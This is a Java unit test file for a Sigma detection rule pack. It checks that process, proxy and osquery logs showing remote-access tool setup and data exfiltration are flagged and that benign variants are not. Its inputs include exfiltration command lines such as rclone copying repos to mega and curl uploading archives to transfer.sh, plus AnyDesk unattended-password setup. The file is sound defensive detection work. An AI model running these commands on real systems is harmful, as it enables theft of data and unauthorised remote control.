package dev.unravel.detect.control;

import static dev.unravel.detect.control.Samples.osquery;
import static dev.unravel.detect.control.Samples.process;
import static org.assertj.core.api.Assertions.assertThat;

import dev.unravel.core.Signal;
import dev.unravel.core.Stage;
import dev.unravel.core.testing.SharedData;
import dev.unravel.detect.DetectConfig;
import dev.unravel.detect.sigma.SigmaDetector;
import dev.unravel.detect.testing.DetectorHarness;
import dev.unravel.sigma.RuleSet;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

class RulePackTest {

    static final String HOST = "NWL-LT-7.corp.example.com";

    static List<Signal> run(String format, String text) {
        return new DetectorHarness().with(format, text).run(new SigmaDetector(RulePack.load(DetectConfig.DEFAULT)));
    }

    @Test
    void everyRuleInThePackLoadsAndTheIndexListsEveryFile() throws IOException, URISyntaxException {
        RuleSet rules = RulePack.load(DetectConfig.DEFAULT);
        assertThat(rules.report().errors()).isEmpty();
        assertThat(rules.rules()).hasSameSizeAs(RulePack.packFiles());
        // In the build the pack is a folder: every rule file in it must be in the index, or the
        // shaded jar (which cannot be listed) would silently miss it.
        Path root = Path.of(RulePack.class.getResource(RulePack.ROOT + "index.txt").toURI()).getParent();
        try (Stream<Path> files = Files.walk(root)) {
            List<String> onDisk = files.filter(p -> p.toString().endsWith(".yml"))
                    .map(p -> root.relativize(p).toString().replace('\\', '/')).sorted().toList();
            assertThat(RulePack.packFiles()).containsExactlyInAnyOrderElementsOf(onDisk);
        }
    }

    @Test
    void anyDeskGivenAnUnattendedPasswordIsAControlSignalButAPlainStartIsNot() {
        List<Signal> signals = run("windows-evtx-json", process("2026-03-05T00:42:06Z", HOST, "NORTHWIND\\bmiller",
                "C:\\Users\\bmiller\\Downloads\\AnyDesk.exe",
                "\"C:\\Users\\bmiller\\Downloads\\AnyDesk.exe\" --set-password _unattended_access"));
        assertThat(signals).singleElement().satisfies(s -> {
            assertThat(s.detector()).isEqualTo("sigma:bfff95c2-5762-4064-bba7-1805d1bf074d");
            assertThat(s.stage()).isEqualTo(Stage.CONTROL);
            assertThat(s.technique()).isEqualTo("T1219");
            assertThat(s.strength()).isEqualTo(0.5);
        });
        assertThat(run("windows-evtx-json", process("2026-03-05T00:42:06Z", HOST, "NORTHWIND\\bmiller",
                "C:\\Users\\bmiller\\Downloads\\AnyDesk.exe", "\"C:\\Users\\bmiller\\Downloads\\AnyDesk.exe\"")))
                .isEmpty();
    }

    @Test
    void silentInstallFromADownloadsFolderFiresButNotTheDeployedService() {
        assertThat(run("windows-evtx-json", process("2026-03-05T00:42:06Z", HOST, "NORTHWIND\\bmiller",
                "C:\\Users\\bmiller\\Downloads\\rustdesk-1.3.2-x86_64.exe",
                "rustdesk-1.3.2-x86_64.exe --silent-install")))
                .singleElement().satisfies(s -> assertThat(s.strength()).isEqualTo(0.3));
        assertThat(run("windows-evtx-json", process("2026-03-05T00:42:06Z", HOST, "NT AUTHORITY\\SYSTEM",
                "C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe", "TeamViewer_Service.exe --install")))
                .isEmpty();
    }

    @Test
    void rcloneCopyingToACloudRemoteIsAStealSignalButRcloneVersionIsNot() {
        List<Signal> signals = run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Users\\kmartinez\\rclone\\rclone.exe",
                "rclone.exe copy C:\\Users\\kmartinez\\source\\repos mega:backup --transfers 8"));
        assertThat(signals).singleElement().satisfies(s -> {
            assertThat(s.stage()).isEqualTo(Stage.STEAL);
            assertThat(s.technique()).isEqualTo("T1567.002");
        });
        assertThat(run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Users\\kmartinez\\rclone\\rclone.exe", "rclone.exe version"))).isEmpty();
    }

    @Test
    void uploadsToAnonymousFileSharingFromTheCommandLineFireButDownloadsDoNot() {
        assertThat(run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Windows\\System32\\curl.exe", "curl.exe --upload-file repos.7z https://transfer.sh/repos.7z")))
                .singleElement().satisfies(s -> assertThat(s.strength()).isEqualTo(0.5));
        assertThat(run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Windows\\System32\\curl.exe", "curl.exe -o tool.zip https://transfer.sh/abc/tool.zip")))
                .isEmpty();
    }

    /**
     * Through the web proxy's log (Zscaler, Umbrella), where a laptop at a farm is seen though its
     * endpoint logs are missing: rclone sending, and a script uploading to anonymous file sharing;
     * rclone listing a remote, and a browser's upload, are not these rules'.
     */
    @Test
    void rcloneAndScriptedUploadsThroughTheProxyAreStealSignals() {
        String chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                + "Chrome/131.0.0.0 Safari/537.36";
        String rclone = Samples.zscalerWeb("2026-03-09 01:00:00", "karen.martinez@example.com", "NWL-LT-7",
                "203.0.113.44", "PUT", "https://gfs270n171.userstorage.mega.co.nz/ul/x", 734_003_200L, "Allowed")
                .replace(chrome, "rclone/v1.66.0");
        assertThat(run("zscaler-web", rclone)).singleElement().satisfies(s -> {
            assertThat(s.detector()).isEqualTo("sigma:d685f384-45c8-42df-8bec-8e1e12284a0b");
            assertThat(s.stage()).isEqualTo(Stage.STEAL);
            assertThat(s.technique()).isEqualTo("T1567.002");
        });
        assertThat(run("zscaler-web", rclone.replace("\"PUT\"", "\"GET\""))).as("listing a remote").isEmpty();

        String curl = Samples.umbrellaProxy("2026-03-09 01:00:00", "NWL-LT-7", "192.168.1.23",
                "https://transfer.sh/repos.7z", 52_428_800L, "ALLOWED").replace("MEGAsync/4.12", "curl/8.4.0");
        assertThat(run("cisco-umbrella", curl)).singleElement().satisfies(s -> {
            assertThat(s.detector()).isEqualTo("sigma:17451dce-bbef-4728-860f-c5f8090aec90");
            assertThat(s.strength()).isEqualTo(0.5);
        });
        assertThat(run("cisco-umbrella", curl.replace("curl/8.4.0", chrome))).as("a browser's upload").isEmpty();
    }

    @Test
    void macosRulesReadOsqueryProcessRows() {
        assertThat(run("osquery", osquery("processes", 1773017000L, "NWL-MBP-9", "name", "mega-put", "path",
                "/Applications/MEGAcmd.app/Contents/MacOS/mega-put", "cmdline",
                "mega-put /Users/kmartinez/src.tar.gz /exports/"))).singleElement()
                .satisfies(s -> assertThat(s.stage()).isEqualTo(Stage.STEAL));
        assertThat(run("osquery", osquery("processes", 1773017000L, "NWL-MBP-9", "name", "curl", "path",
                "/usr/bin/curl", "cmdline", "curl -T src.tar.gz https://transfer.sh/src.tar.gz"))).hasSize(1);
        assertThat(run("osquery", osquery("processes", 1773017000L, "NWL-MBP-9", "name", "git", "path",
                "/usr/bin/git", "cmdline", "git clone git@github.com:acme/api.git"))).isEmpty();
    }

    @Test
    void packingASourceFolderIsAWeakCollectionSignal() {
        assertThat(run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a C:\\Users\\k\\out.7z C:\\Users\\k\\source\\repos\\*")))
                .singleElement().satisfies(s -> assertThat(s.strength()).isLessThan(0.2));
        assertThat(run("windows-evtx-json", process("2026-03-09T01:00:00Z", HOST, "NORTHWIND\\kmartinez",
                "C:\\Program Files\\7-Zip\\7z.exe", "7z.exe x C:\\Users\\k\\Downloads\\photos.zip"))).isEmpty();
    }

    @Test
    void lolrmmFilesAmongTheUsersRulesAreNotReportedAsBrokenSigmaRules() throws IOException {
        Path lolrmm = SharedData.require().resolve("data/lolrmm/yaml");
        Path extra = Files.createTempDirectory("rules");
        try {
            Files.copy(lolrmm.resolve("anydesk.yaml"), extra.resolve("anydesk.yaml"));
            Files.writeString(extra.resolve("mine.yml"), """
                    title: Our own rule
                    id: 76e02002-1482-43ce-9ae4-49c10ad6de1b
                    logsource: {category: process_creation, product: windows}
                    detection:
                      selection: {Image|endswith: '\\\\foo.exe'}
                      condition: selection
                    level: low
                    """);
            DetectConfig config = new DetectConfig(List.of(), List.of(extra), Map.of());
            RuleSet rules = RulePack.load(config);
            assertThat(rules.report().errors()).isEmpty();
            assertThat(rules.rules()).hasSize(RulePack.packFiles().size() + 1);
            assertThat(RulePack.lolrmmFiles(config.rules())).containsExactly(extra.resolve("anydesk.yaml"));
            assertThat(RemoteAccessDetector.load(config).catalogue().lolrmmFiles()).isEqualTo(1);
        } finally {
            try (Stream<Path> files = Files.walk(extra)) {
                files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }
}
